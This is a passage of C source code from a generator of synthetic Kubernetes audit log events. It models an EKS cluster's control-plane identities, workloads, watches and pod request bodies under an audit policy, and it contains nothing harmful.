 * configmaps, tokens and leases at Metadata, kubelets' nodes/status and pods/status patches at
 * Request (as the GCE policy), writes of workloads, services and RBAC at RequestResponse, the
 * rest at Metadata. The default profile's code above is untouched by it.
 */

#define CL_NODES 12
#define SEC 1000000LL /* a second in microseconds */
#define KUBE "/v1.29.3 (linux/amd64) kubernetes/6813625"
#define KCM_UA "kube-controller-manager" KUBE
#define ECR "123456789012.dkr.ecr.eu-west-1.amazonaws.com/"
#define EKS_ECR "602401143452.dkr.ecr.eu-west-1.amazonaws.com/"
/* The brief asked for list/watch by a metadata.name field selector to carry no objectRef.name.
 * Recent apiservers fill it from the selector (RequestInfoFactory), so real logs may have it:
 * set to 1 to model that. */
#define CL_FIELD_SELECTOR_NAME 0

#define RBAC_CRB(b, r, to)                                                                         \
    "RBAC: allowed by ClusterRoleBinding \"" b "\" of ClusterRole \"" r "\" to " to
#define RBAC_SA(b, ns, n) RBAC_CRB(b, b, "ServiceAccount \"" n "/" ns "\"")
#define RBAC_CTRL(n) RBAC_SA("system:controller:" n, "kube-system", n)
#define SA(ns, n) "system:serviceaccount:" ns ":" n
#define IAM_EXTRA(role, sess, key)                                                                 \
    "{\"accessKeyId\":[\"" key "\"],\"arn\":[\"arn:aws:sts::123456789012:assumed-role/" role       \
    "/" sess "\"],\"canonicalArn\":[\"arn:aws:iam::123456789012:role/" role                        \
    "\"],\"principalId\":[\"AROAXAMPLE" key "\"],\"sessionName\":[\"" sess "\"]}"

/* Who calls the API; the node identities are built per node instead. */
struct who {
    const char *user;   /* user.username */
    const char *groups; /* JSON array, or NULL: from the name */
    const char *extra;  /* JSON object, or NULL */
    const char *uid;    /* "" for none, or NULL: from the name */
    const char *agent;  /* User-Agent */
    const char *ip;     /* sourceIPs[0] */
    const char *pod;    /* the pod a service-account token is bound to, or NULL */
    const char *authz;  /* authorization.k8s.io/reason */
};

enum {
    W_KCM,
    W_SCHED,
    W_APISERVER,
    W_RS,
    W_DEPLOY,
    W_EPS,
    W_EP,
    W_NS,
    W_GC,
    W_JOB,
    W_TTL,
    W_DS,
    W_PODGC,
    W_HPA,
    W_PROXY,
    W_COREDNS,
    W_EKS_CERT,
    W_EKS_NODEMGR,
    W_EKS_ADDON,
    W_EKS_CCM,
    W_EKS_PODID,
    W_EKS_AUTH,
    W_BOOT,
    W_CERTMGR,
    W_CAINJ,
    W_ESO,
    W_ARGO,
    W_ALB,
    W_METRICS,
    W_CI_SA,
    W_CI_IAM,
    W_ADMIN,
    W_ALICE,
    W_COUNT
};

static const struct who whos[W_COUNT] = {
    [W_KCM] = {"system:kube-controller-manager", NULL, NULL, NULL, KCM_UA "/leader-election",
               "10.0.100.12", NULL,
               RBAC_CRB("system:kube-controller-manager", "system:kube-controller-manager",
                        "User \"system:kube-controller-manager\"")},
    [W_SCHED] = {"system:kube-scheduler", NULL, NULL, NULL, "kube-scheduler" KUBE "/scheduler",
                 "10.0.100.12", NULL,
                 RBAC_CRB("system:kube-scheduler", "system:kube-scheduler",
                          "User \"system:kube-scheduler\"")},
    [W_APISERVER] = {"system:apiserver", "[\"system:masters\"]", NULL, NULL, "kube-apiserver" KUBE,
                     "::1", NULL, ""},
    [W_RS] = {SA("kube-system", "replicaset-controller"), NULL, NULL, NULL,
              KCM_UA "/system:serviceaccount:kube-system:replicaset-controller", "10.0.100.12",
              NULL, RBAC_CTRL("replicaset-controller")},
    [W_DEPLOY] = {SA("kube-system", "deployment-controller"), NULL, NULL, NULL,
                  KCM_UA "/system:serviceaccount:kube-system:deployment-controller", "10.0.100.12",
                  NULL, RBAC_CTRL("deployment-controller")},
    [W_EPS] = {SA("kube-system", "endpointslice-controller"), NULL, NULL, NULL,
               KCM_UA "/system:serviceaccount:kube-system:endpointslice-controller", "10.0.100.12",
               NULL, RBAC_CTRL("endpointslice-controller")},
    [W_EP] = {SA("kube-system", "endpoint-controller"), NULL, NULL, NULL,
              KCM_UA "/system:serviceaccount:kube-system:endpoint-controller", "10.0.100.12", NULL,
              RBAC_CTRL("endpoint-controller")},
    [W_NS] = {SA("kube-system", "namespace-controller"), NULL, NULL, NULL,
              KCM_UA "/system:serviceaccount:kube-system:namespace-controller", "10.0.100.12", NULL,
              RBAC_CTRL("namespace-controller")},
    [W_GC] = {SA("kube-system", "generic-garbage-collector"), NULL, NULL, NULL,
              KCM_UA "/system:serviceaccount:kube-system:generic-garbage-collector", "10.0.100.12",
              NULL, RBAC_CTRL("generic-garbage-collector")},
    [W_JOB] = {SA("kube-system", "job-controller"), NULL, NULL, NULL,
               KCM_UA "/system:serviceaccount:kube-system:job-controller", "10.0.100.12", NULL,
               RBAC_CTRL("job-controller")},
    [W_TTL] = {SA("kube-system", "ttl-after-finished-controller"), NULL, NULL, NULL,
               KCM_UA "/system:serviceaccount:kube-system:ttl-after-finished-controller",
               "10.0.100.12", NULL, RBAC_CTRL("ttl-after-finished-controller")},
    [W_DS] = {SA("kube-system", "daemon-set-controller"), NULL, NULL, NULL,
              KCM_UA "/system:serviceaccount:kube-system:daemon-set-controller", "10.0.100.12",
              NULL, RBAC_CTRL("daemon-set-controller")},
    [W_PODGC] = {SA("kube-system", "pod-garbage-collector"), NULL, NULL, NULL,
                 KCM_UA "/system:serviceaccount:kube-system:pod-garbage-collector", "10.0.100.12",
                 NULL, RBAC_CTRL("pod-garbage-collector")},
    [W_HPA] = {SA("kube-system", "horizontal-pod-autoscaler"), NULL, NULL, NULL,
               KCM_UA "/system:serviceaccount:kube-system:horizontal-pod-autoscaler", "10.0.100.12",
               NULL, RBAC_CTRL("horizontal-pod-autoscaler")},
    [W_PROXY] = {"system:kube-proxy", NULL, NULL, NULL,
                 "kube-proxy/v1.29.3 (linux/amd64) kubernetes/6813625", NULL, NULL,
                 RBAC_CRB("system:node-proxier", "system:node-proxier",
                          "User \"system:kube-proxy\"")},
    [W_COREDNS] = {SA("kube-system", "coredns"), NULL, NULL, NULL,
                   "coredns/v0.0.0 (linux/amd64) kubernetes/$Format", "10.0.2.71",
                   "coredns-5b8cc885bc-9lmkx",
                   RBAC_CRB("system:coredns", "system:coredns",
                            "ServiceAccount \"coredns/kube-system\"")},
    [W_EKS_CERT] = {"eks:certificate-controller", "[\"system:authenticated\"]", NULL, "",
                    "eks-certificates-controller/v0.0.0 (linux/amd64) kubernetes/$Format",
                    "10.0.100.12", NULL,
                    RBAC_CRB("eks:certificate-controller", "eks:certificate-controller",
                             "User \"eks:certificate-controller\"")},
    [W_EKS_NODEMGR] = {"eks:node-manager", "[\"system:authenticated\"]", NULL, "",
                       "eks-node-manager/v0.0.0 (linux/amd64) kubernetes/$Format", "10.0.101.40",
                       NULL,
                       RBAC_CRB("eks:node-manager", "eks:node-manager",
                                "User \"eks:node-manager\"")},
    [W_EKS_ADDON] = {"eks:addon-manager", "[\"system:authenticated\"]", NULL, "",
                     "eks-addon-manager/v0.0.0 (linux/amd64) kubernetes/$Format", "10.0.101.40",
                     NULL,
                     RBAC_CRB("eks:addon-manager", "eks:addon-manager",
                              "User \"eks:addon-manager\"")},
    [W_EKS_CCM] = {"eks:cloud-controller-manager", "[\"system:authenticated\"]", NULL, "",
                   "aws-cloud-controller-manager/v1.29.0 (linux/amd64) kubernetes/$Format",
                   "10.0.100.12", NULL,
                   RBAC_CRB("eks:cloud-controller-manager", "eks:cloud-controller-manager",
                            "User \"eks:cloud-controller-manager\"")},
    [W_EKS_PODID] = {"eks:pod-identity-mutating-webhook", "[\"system:authenticated\"]", NULL, "",
                     "amazon-eks-pod-identity-webhook/v0.5.3 (linux/amd64) kubernetes/$Format",
                     "10.0.100.12", NULL,
                     RBAC_CRB("eks:pod-identity-mutating-webhook",
                              "eks:pod-identity-mutating-webhook",
                              "User \"eks:pod-identity-mutating-webhook\"")},
    [W_EKS_AUTH] = {"eks:authenticator", "[\"system:authenticated\"]", NULL, "",
                    "aws-iam-authenticator/v0.6.20 (linux/amd64) kubernetes/$Format", "10.0.100.12",
                    NULL,
                    RBAC_CRB("eks:authenticator", "eks:authenticator",
                             "User \"eks:authenticator\"")},
    [W_BOOT] = {"system:bootstrap:abcdef",
                "[\"system:bootstrappers\",\"system:bootstrappers:worker\","
                "\"system:authenticated\"]",
                NULL, "", "kubelet" KUBE, NULL, NULL,
                RBAC_CRB("eks:kubelet-bootstrap", "system:node-bootstrapper",
                         "Group \"system:bootstrappers\"")},
    [W_CERTMGR] = {SA("cert-manager", "cert-manager"), NULL, NULL, NULL,
                   "cert-manager-controller/v1.14.4 (linux/amd64) cert-manager/f5b3cbb",
                   "10.0.3.118", "cert-manager-7bf6c6b9d8-qv4ht",
                   RBAC_CRB("cert-manager-controller-certificates",
                            "cert-manager-controller-certificates",
                            "ServiceAccount \"cert-manager/cert-manager\"")},
    [W_CAINJ] = {SA("cert-manager", "cert-manager-cainjector"), NULL, NULL, NULL,
                 "cainjector/v1.14.4 (linux/amd64) cert-manager/f5b3cbb", "10.0.1.93",
                 "cert-manager-cainjector-65cf5b8d9f-z7wpn",
                 RBAC_CRB("cert-manager-cainjector", "cert-manager-cainjector",
                          "ServiceAccount \"cert-manager-cainjector/cert-manager\"")},
    [W_ESO] = {SA("external-secrets", "external-secrets"), NULL, NULL, NULL,
               "external-secrets/v0.9.16 (linux/amd64) kubernetes/$Format", "10.0.2.140",
               "external-secrets-6d8c5b7f9c-hx2lm",
               RBAC_CRB("external-secrets-controller", "external-secrets-controller",
                        "ServiceAccount \"external-secrets/external-secrets\"")},
    [W_ARGO] = {SA("argocd", "argocd-application-controller"), NULL, NULL, NULL,
                "argocd-application-controller/v2.10.7+b060053 (linux/amd64)", "10.0.1.201",
                "argocd-application-controller-0",
                RBAC_CRB("argocd-application-controller", "argocd-application-controller",
                         "ServiceAccount \"argocd-application-controller/argocd\"")},
    [W_ALB] = {SA("kube-system", "aws-load-balancer-controller"), NULL, NULL, NULL,
               "aws-load-balancer-controller/v2.7.2 (linux/amd64) kubernetes/$Format", "10.0.3.57",
               "aws-load-balancer-controller-7d9c8f6b5-kq2xz",
               RBAC_CRB("aws-load-balancer-controller-rolebinding",
                        "aws-load-balancer-controller-role",
                        "ServiceAccount \"aws-load-balancer-controller/kube-system\"")},
    [W_METRICS] = {SA("kube-system", "metrics-server"), NULL, NULL, NULL,
                   "metrics-server/v0.7.1 (linux/amd64) kubernetes/$Format", "10.0.2.12",
                   "metrics-server-5dc9dbf6f5-m9tgd",
                   RBAC_CRB("system:metrics-server", "system:metrics-server",
                            "ServiceAccount \"metrics-server/kube-system\"")},
    [W_CI_SA] = {SA("ci", "deployer"), NULL, NULL, NULL, "Helm/3.14.4", "10.0.1.77",
                 "gitlab-runner-6f7d9c5b8-w4nrx",
                 RBAC_CRB("ci-deployer", "ci-deployer", "ServiceAccount \"deployer/ci\"")},
    [W_CI_IAM] = {"arn:aws:sts::123456789012:assumed-role/ci-deploy/gitlab-ci",
                  "[\"ci-deployers\",\"system:authenticated\"]",
                  IAM_EXTRA("ci-deploy", "gitlab-ci", "ASIAEXAMPLECI7Q"),
                  "aws-iam-authenticator:123456789012:AROAEXAMPLECIDEPLOY", "Helm/3.14.4",
                  "198.51.100.14", NULL,
                  RBAC_CRB("ci-deployers", "ci-deployer", "Group \"ci-deployers\"")},
    [W_ADMIN] = {"kubernetes-admin", "[\"system:masters\",\"system:authenticated\"]",
                 IAM_EXTRA("Admin", "ops-oncall", "ASIAEXAMPLEADM3"),
                 "aws-iam-authenticator:123456789012:AROAEXAMPLEADMIN",
                 "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625", "203.0.113.45", NULL, ""},
    [W_ALICE] = {"alice@example.com", "[\"dev-readers\",\"system:authenticated\"]",
                 IAM_EXTRA("DevReadOnly", "alice@example.com", "ASIAEXAMPLEALC9"),
                 "aws-iam-authenticator:123456789012:AROAEXAMPLEDEVRO",
                 "kubectl/v1.29.3 (darwin/arm64) kubernetes/6813625", "203.0.113.45", NULL,
                 RBAC_CRB("dev-readers", "view", "Group \"dev-readers\"")},
};

/* What runs in the cluster. */
struct app {
    const char *ns, *name, *image;
    int kind;      /* 0 Deployment, 1 Job (of a CronJob), 2 DaemonSet */
    int secure;    /* restricted-style securityContext; DaemonSets: host access as shipped */
    char hash[12]; /* current pod-template-hash */
    unsigned rev;  /* Helm release revision */
};

static struct app apps[] = {
    {"payments", "payments-api", ECR "payments-api:1.42.0", 0, 1, "", 0},
    {"payments", "ledger", ECR "ledger:3.8.2", 0, 1, "", 0},
    {"web", "frontend", ECR "frontend:2024.05.1", 0, 1, "", 0},
    {"web", "web-bff", ECR "web-bff:0.19.4", 0, 1, "", 0},
    {"checkout", "checkout", ECR "checkout:5.2.0", 0, 1, "", 0},
    {"search", "search-api", ECR "search-api:1.7.3", 0, 0, "", 0},
    {"data", "etl-worker", ECR "etl-worker:0.9.12", 1, 0, "", 0},
    {"data", "kafka-connect", "docker.io/confluentinc/cp-kafka-connect:7.6.1", 0, 0, "", 0},
    {"monitoring", "grafana", "docker.io/grafana/grafana:10.4.2", 0, 0, "", 0},
    {"monitoring", "prometheus", "quay.io/prometheus/prometheus:v2.51.2", 0, 1, "", 0},
    {"kube-system", "aws-node", EKS_ECR "amazon-k8s-cni:v1.18.1-eksbuild.1", 2, 0, "", 0},
    {"kube-system", "kube-proxy", EKS_ECR "eks/kube-proxy:v1.29.3-minimal-eksbuild.2", 2, 0, "", 0},
};
#define N_USER_APPS 10 /* apps[0..9] churn and deploy; the DaemonSets follow the nodes */
#define APP_AWS_NODE 10
#define APP_KUBE_PROXY 11

/* A kubelet's view of one object its pods mount (watched by name through a field selector). */
struct mounted {
    const char *res; /* secrets or configmaps */
    const char *ns;
    char name[64];
};

struct node {
    char name[64]; /* ip-10-0-X-Y.eu-west-1.compute.internal */
    char user[96]; /* system:node:NAME */
    char ip[16];
    unsigned gen; /* bumped when the node is replaced */
    int apps[6];  /* what runs on it (indexes into apps) */
    int napps;
};

static struct node nodes[CL_NODES];

/* Random lower-case name suffix as Kubernetes makes them (no vowels, no confusable digits). */
static void suffix(char *out, size_t n)
{
    static const char alnum[] = "bcdfghjklmnpqrstvwxz2456789";
    for (size_t i = 0; i + 1 < n; i++) {
        out[i] = alnum[below(sizeof(alnum) - 1)];
    }
    out[n - 1] = '\0';
}

static void node_make(int i)
{
    struct node *n = &nodes[i];
    unsigned a = below(3), b = 2 + below(250);
    snprintf(n->ip, sizeof(n->ip), "10.0.%u.%u", a, b);
    snprintf(n->name, sizeof(n->name), "ip-10-0-%u-%u.eu-west-1.compute.internal", a, b);
    snprintf(n->user, sizeof(n->user), "system:node:ip-10-0-%u-%u.eu-west-1.compute.internal", a,
             b);
    n->gen++;
}

/* ---- actors ---- */

enum {
    K_NODE_LEASE,
    K_NODE_STATUS,
    K_NODE_TOKEN,
    K_NODE_REVIEWS,
    K_WATCH,
    K_LEADER,
    K_APISERVER,
    K_CHURN,
    K_POD,
    K_PODDEL,
    K_HPA,
    K_CERTMGR,
    K_ESO,
    K_ARGO,
    K_DEPLOY,
    K_HUMAN,
    K_SESSION,
    K_JOIN,
    K_EKS_CERT,
    K_EKS_NODEMGR,
    K_EKS_ADDON,
    K_ALB
};

struct actor {
    int64_t at;                             /* next firing, microseconds */
    uint64_t seq;                           /* ties fire in creation order */
    int kind;                               /* K_* */
    int idx;                                /* node, app, leader or identity, by kind */
    unsigned step;                          /* position in a multi-step sequence */
    int who;                                /* identity (-1: the kubelet of node) */
    int node;                               /* node, or -1 */
    unsigned gen;                           /* the node's generation when the watch started */
    const char *res, *group, *version, *ns; /* watched */
    char sel[128];                          /* field selector (URL-encoded), "" for none */
    char id[37];                            /* open watch or log stream, "" for none */
    int64_t since;                          /* its receipt time */
    unsigned tmo;                           /* its timeoutSeconds */
    unsigned rv;                            /* its resourceVersion */
    char pod[64];                           /* pod, node or object name of the sequence */
};

static struct actor **heap;
static size_t heap_n, heap_cap;
static uint64_t actor_seq;

static int before(const struct actor *a, const struct actor *b)
{
    return a->at < b->at || (a->at == b->at && a->seq < b->seq);
}

static void heap_push(struct actor *a)
{
    if (heap_n == heap_cap) {
        heap_cap = heap_cap ? heap_cap * 2 : 1024;
        heap = realloc(heap, heap_cap * sizeof(*heap));
        if (heap == NULL) {
            fputs("gen-audit: out of memory\n", stderr);
            exit(1);
        }
    }
    size_t i = heap_n++;
    while (i > 0 && before(a, heap[(i - 1) / 2])) {
        heap[i] = heap[(i - 1) / 2];
        i = (i - 1) / 2;
    }
    heap[i] = a;
}

static struct actor *heap_pop(void)
{
    struct actor *top = heap[0], *last = heap[--heap_n];
    size_t i = 0;
    for (;;) {
        size_t c = 2 * i + 1;
        if (c >= heap_n) {
            break;
        }
        if (c + 1 < heap_n && before(heap[c + 1], heap[c])) {
            c++;
        }
        if (!before(heap[c], last)) {
            break;
        }
        heap[i] = heap[c];
        i = c;
    }
    if (heap_n > 0) {
        heap[i] = last;
    }
    return top;
}

static struct actor *spawn(int kind, int idx, int64_t at)
{
    struct actor *a = calloc(1, sizeof(*a));
    if (a == NULL) {
        fputs("gen-audit: out of memory\n", stderr);
        exit(1);
    }
    a->kind = kind;
    a->idx = idx;
    a->at = at;
    a->seq = actor_seq++;
    a->who = -1;
    a->node = -1;
    heap_push(a);
    return a;
}

/* A duration from lo to hi seconds, in microseconds. */
static int64_t secs(unsigned lo, unsigned hi)
{
    return (int64_t)lo * SEC + (int64_t)(rnd() % ((uint64_t)(hi - lo) * SEC + 1));
}

/* ---- requests ---- */

static int64_t cl_last; /* the last stageTimestamp written: the log moves forward */

static void cl_emit(const struct req *r, const char *id, const char *stage, int64_t recv,
                    int64_t at)
{
    if (at < cl_last) {
        at = cl_last;
    }
    cl_last = at;
    if (recv > at) {
        recv = at;
    }
    if (sink.written >= sink.limit) {
        return;
    }
    sink.ev.len = 0;
    emit_event(&sink.ev, r, id, stage, recv, at);
    sink_write();
}

/* One complete request received at *t; *t moves past its answer. */
static void cl_done(const struct req *r, int64_t *t)
{
    char id[37];
    uuid(id);
    int slow = strcmp(r->verb, "list") == 0 || strcmp(r->verb, "deletecollection") == 0;
    int64_t lat = 700 + below(slow ? 60000 : 9000);
    cl_emit(r, id, "ResponseComplete", *t, *t + lat);
    *t += lat + 100 + below(2000);
}

/* The identity: whos[who], or the kubelet of node when who < 0. */
static void cl_who(struct req *r, int who, int node)
{
    if (who < 0) {
        const struct node *n = &nodes[node > 0 ? node : 0]; /* who < 0 always names a node */
        fill_common(r, n->user, "kubelet" KUBE);
        r->ip = n->ip;
        r->authz = "";
        return;
    }
    const struct who *w = &whos[who];
    fill_common(r, w->user, w->agent);
    r->groups = w->groups;
    r->extra = w->extra;
    r->uid = w->uid;
    r->authz = w->authz;
    r->sa_pod = w->pod;
    if (w->ip != NULL) {
        r->ip = w->ip;
    } else if (node >= 0) {
        r->ip = nodes[node].ip;
    }
}

static int is_workload(const char *res)
{
    static const char *const w[] = {
        "pods",  "deployments", "replicasets", "daemonsets",   "statefulsets",
        "jobs",  "cronjobs",    "services",    "clusterroles", "clusterrolebindings",
        "roles", "rolebindings"};
    for (size_t i = 0; i < sizeof(w) / sizeof(w[0]); i++) {
        if (strcmp(res, w[i]) == 0) {
            return 1;
        }
    }
    return 0;
}

/* Verb, objectRef, URI (without query) and the policy's level. group NULL is the core group. */
static void cl_obj(struct req *r, const char *verb, const char *group, const char *version,
                   const char *res, const char *ns, const char *name, const char *sub)
{
    r->verb = verb;
    r->group = group;
    r->version = version;
    r->resource = res;
    r->ns = ns;
    r->name = name;
    r->subresource = sub;
    int coll = sub == NULL && (strcmp(verb, "create") == 0 || strcmp(verb, "list") == 0 ||
                               strcmp(verb, "watch") == 0 || strcmp(verb, "deletecollection") == 0);
    resource_uri(r, coll);
    int read = strcmp(verb, "get") == 0 || strcmp(verb, "list") == 0 || strcmp(verb, "watch") == 0;
    if (read) {
        r->level = "Metadata";
    } else if (sub != NULL && strcmp(sub, "status") == 0 &&
               strncmp(r->user, "system:node:", 12) == 0) {
        r->level = "Request";
    } else if (is_workload(res) && (sub == NULL || strcmp(sub, "binding") == 0 ||
                                    strcmp(sub, "status") == 0 || strcmp(sub, "scale") == 0)) {
        r->level = "RequestResponse";
    } else {
        r->level = "Metadata";
    }
    r->code = strcmp(verb, "create") == 0 ? 201 : 200;
}

static void cl_query(struct req *r, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void cl_query(struct req *r, const char *fmt, ...)
{
    size_t n = strlen(r->uri);
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(r->uri + n, sizeof(r->uri) - n, fmt, ap);
    va_end(ap);
}

/* ---- bodies ---- */

static void pod_name(char *out, size_t n, const struct app *a)
{
    char sfx[6];
    suffix(sfx, sizeof(sfx));
    if (a->kind == 0) {
        snprintf(out, n, "%s-%s-%s", a->name, a->hash, sfx);
    } else if (a->kind == 1) {
        snprintf(out, n, "%s-%u-%s", a->name, 28600000 + below(99999), sfx);
    } else {
        snprintf(out, n, "%s-%s", a->name, sfx);
    }
}

/* A pod as its controller creates it (name NULL: generateName) or as the API returns it. */
static void cl_pod(struct buf *b, const struct app *a, const char *name, const char *node)
{
    puts_(b, "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{");
    if (name != NULL) {
        kv(b, "name", name);
        char uid[37];
        uuid(uid);
        kv(b, "uid", uid);
    } else if (a->kind == 0) {
        putf(b, "\"generateName\":\"%s-%s-\"", a->name, a->hash);
    } else {
        putf(b, "\"generateName\":\"%s-\"", a->name);
    }
    kv(b, "namespace", a->ns);
    putf(b, ",\"labels\":{\"app.kubernetes.io/name\":\"%s\"", a->name);
    if (a->kind == 0) {
        putf(b, ",\"pod-template-hash\":\"%s\"", a->hash);
    }
    putf(b,
         "},\"ownerReferences\":[{\"apiVersion\":\"%s\",\"kind\":\"%s\",\"name\":\"%s%s%s\","
         "\"controller\":true,\"blockOwnerDeletion\":true}]},\"spec\":{",
         a->kind == 1 ? "batch/v1" : "apps/v1",
         a->kind == 0   ? "ReplicaSet"
         : a->kind == 1 ? "Job"
                        : "DaemonSet",
         a->name, a->kind == 0 ? "-" : "", a->kind == 0 ? a->hash : "");
    int ds = a->kind == 2;
    if (ds) {
        puts_(b, "\"hostNetwork\":true,\"priorityClassName\":\"system-node-critical\",");
    } else if (a->secure) {
        puts_(b, "\"securityContext\":{\"runAsNonRoot\":true,\"runAsUser\":10001,\"fsGroup\":"
                 "10001,\"seccompProfile\":{\"type\":\"RuntimeDefault\"}},");
    }
    putf(b, "\"serviceAccountName\":\"%s\",\"containers\":[{\"name\":\"%s\"", a->name, a->name);
    kv(b, "image", a->image);
    if (!ds) {
        puts_(b, ",\"ports\":[{\"containerPort\":8080,\"protocol\":\"TCP\"}],\"env\":[{\"name\":"
                 "\"DB_PASSWORD\",\"valueFrom\":{\"secretKeyRef\":{\"name\":");
        putf(b, "\"%s-secrets\",\"key\":\"db-password\"}}}]", a->name);
    }
    puts_(b, ",\"resources\":{\"requests\":{\"cpu\":\"100m\",\"memory\":\"128Mi\"}}");
    if (ds && a == &apps[APP_AWS_NODE]) {
        puts_(b, ",\"securityContext\":{\"capabilities\":{\"add\":[\"NET_ADMIN\",\"NET_RAW\"]}}");
    } else if (ds) {
        puts_(b, ",\"securityContext\":{\"privileged\":true}");
    } else if (a->secure) {
        puts_(b, ",\"securityContext\":{\"allowPrivilegeEscalation\":false,"
                 "\"readOnlyRootFilesystem\":true,\"capabilities\":{\"drop\":[\"ALL\"]}}");
    }
    puts_(b, ",\"volumeMounts\":[");
    if (ds) {
        puts_(b, "{\"name\":\"lib-modules\",\"mountPath\":\"/lib/modules\",\"readOnly\":true},"
                 "{\"name\":\"xtables-lock\",\"mountPath\":\"/run/xtables.lock\"},"
                 "{\"name\":\"varlog\",\"mountPath\":\"/var/log\"}");
    } else {
        puts_(b, "{\"name\":\"config\",\"mountPath\":\"/etc/app\",\"readOnly\":true}");
    }
    puts_(b, "]}],\"volumes\":[");
    if (ds) {
        puts_(b, "{\"name\":\"lib-modules\",\"hostPath\":{\"path\":\"/lib/modules\"}},"
                 "{\"name\":\"xtables-lock\",\"hostPath\":{\"path\":\"/run/xtables.lock\","
                 "\"type\":\"FileOrCreate\"}},{\"name\":\"varlog\",\"hostPath\":{\"path\":"
                 "\"/var/log\"}}");
    } else {
        putf(b, "{\"name\":\"config\",\"configMap\":{\"name\":\"%s-config\"}}", a->name);
    }
    if (name != NULL) {
        char sfx[6];
        suffix(sfx, sizeof(sfx));
        putf(b,
             ",{\"name\":\"kube-api-access-%s\",\"projected\":{\"sources\":[{"
             "\"serviceAccountToken\":{\"expirationSeconds\":3607,\"path\":\"token\"}},{"
             "\"configMap\":{\"name\":\"kube-root-ca.crt\",\"items\":[{\"key\":\"ca.crt\","
             "\"path\":\"ca.crt\"}]}}],\"defaultMode\":420}}",
             sfx);
    }
    puts_(b, "]");
    if (node != NULL) {
        putf(b, ",\"nodeName\":\"%s\"", node);
    }
    putf(b, ",\"restartPolicy\":\"%s\"}", a->kind == 1 ? "OnFailure" : "Always");
    if (name != NULL) {
        puts_(b, ",\"status\":{\"phase\":\"Pending\",\"qosClass\":\"Burstable\"}");
    }
    puts_(b, "}");
}

/* A kubelet's pod status patch (strategic merge), at a phase of the pod's start or end. */
static void pod_status_patch(struct buf *b, int phase)
{
    static const char *const conds[] = {"PodReadyToStartContainers", "Initialized", "Ready",
                                        "ContainersReady", "PodScheduled"};
    puts_(b, "{\"metadata\":{\"uid\":\"");
    char uid[37];
    uuid(uid);
    puts_(b, uid);
    puts_(b, "\"},\"status\":{\"$setElementOrder/conditions\":[");
    for (int i = 0; i < 5; i++) {
        putf(b, "%s{\"type\":\"%s\"}", i ? "," : "", conds[i]);
    }
    puts_(b, "],\"conditions\":[");
    for (int i = 0; i < 4; i++) {
        int ok = phase >= 2 || (phase == 1 && i < 2);
        putf(b,
             "%s{\"lastTransitionTime\":\"2024-05-01T00:00:00Z\",\"status\":\"%s\","
             "\"type\":\"%s\"}",
             i ? "," : "",
             phase == 3 ? "False"
             : ok       ? "True"
                        : "False",
             conds[i]);
    }
    putf(b,
         "],\"containerStatuses\":[{\"ready\":%s,\"restartCount\":0,\"started\":%s,"
         "\"state\":{\"%s\":{}}}]",
         phase == 2 ? "true" : "false", phase >= 1 && phase != 3 ? "true" : "false",
         phase == 0   ? "waiting"
         : phase == 3 ? "terminated"
                      : "running");
    if (phase == 0) {
        putf(b, ",\"hostIP\":\"10.0.%u.%u\"", below(3), 2 + below(250));
    } else if (phase == 1) {
        putf(b, ",\"podIP\":\"10.0.%u.%u\",\"phase\":\"Running\"", below(3), 2 + below(250));
    } else if (phase == 3) {
        puts_(b, ",\"phase\":\"Succeeded\"");
    }
    puts_(b, "}}");
}

/* ---- what each actor does when it fires; each returns its next time, or -1 when done ---- */

/* A watch (informer or kubelet reflector): the open one times out (ResponseComplete), a relist
 * now and then, and a new one opens (ResponseStarted) for 5 to 10 minutes (client-go's
 * reflector: timeoutSeconds = minWatchTimeout x [1, 2)). */
static void watch_req(struct req *r, const struct actor *a, int watch)
{
    cl_who(r, a->who, a->node);
    if (a->who < 0) {
        r->agent = "kubelet" KUBE;
    } else if (a->who == W_KCM) {
        r->agent = KCM_UA "/shared-informers";
    }
    const char *name = NULL;
    if (CL_FIELD_SELECTOR_NAME && strncmp(a->sel, "metadata.name%3D", 16) == 0) {
        name = a->sel + 16;
    }
    cl_obj(r, watch ? "watch" : "list", a->group, a->version, a->res, a->ns, name, NULL);
    r->name = name;
    if (watch) {
        unsigned t = a->tmo;
        cl_query(r,
                 "?allowWatchBookmarks=true%s%s&resourceVersion=%u&timeout=%um%us"
                 "&timeoutSeconds=%u&watch=true",
                 a->sel[0] ? "&fieldSelector=" : "", a->sel, a->rv, t / 60, t % 60, t);
        r->started_code = 200;
    } else {
        cl_query(r, "?%s%s%slimit=500&resourceVersion=0", a->sel[0] ? "fieldSelector=" : "", a->sel,
                 a->sel[0] ? "&" : "");
    }
}

static int64_t fire_watch(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    int replaced = a->node >= 0 && a->gen != nodes[a->node].gen;
    if (a->id[0] != '\0' && !replaced) {
        watch_req(&r, a, 1);
        cl_emit(&r, a->id, "ResponseComplete", a->since, t);
        t += 200 + below(3000);
    }
    if (replaced || (a->id[0] != '\0' && chance(2))) {
        /* a new kubelet lists first; others relist when their resourceVersion is too old */
        watch_req(&r, a, 0);
        cl_done(&r, &t);
    }
    if (a->node >= 0) {
        a->gen = nodes[a->node].gen;
    }
    a->tmo = 300 + below(300);
    a->rv = 40000000 + (unsigned)((t / SEC) % 100000000) + below(1000);
    uuid(a->id);
    a->since = t;
    watch_req(&r, a, 1);
    cl_emit(&r, a->id, "ResponseStarted", t, t + 300 + below(2000));
    return t + (int64_t)a->tmo * SEC;
}

static void add_watch(int who, int node, const char *spec, const char *ns, const char *sel)
{
    /* spec: "resource" (core) or "group/version/resource" */
    static char pool[16384];
    static size_t used;
    struct actor *a = spawn(K_WATCH, 0, clock_us + secs(0, 600));
    a->who = who;
    a->node = node;
    a->ns = ns;
    snprintf(a->sel, sizeof(a->sel), "%s", sel ? sel : "");
    const char *s1 = strchr(spec, '/');
    if (s1 == NULL) {
        a->res = spec;
        a->version = "v1";
        return;
    }
    const char *s2 = strchr(s1 + 1, '/');
    size_t gl = (size_t)(s1 - spec), vl = (size_t)(s2 - s1 - 1);
    if (used + gl + vl + 2 > sizeof(pool)) {
        fputs("gen-audit: watch table too big\n", stderr);
        exit(1);
    }
    char *g = pool + used;
    memcpy(g, spec, gl);
    g[gl] = '\0';
    char *v = g + gl + 1;
    memcpy(v, s1 + 1, vl);
    v[vl] = '\0';
    used += gl + vl + 2;
    a->group = g;
    a->version = v;
    a->res = s2 + 1;
}

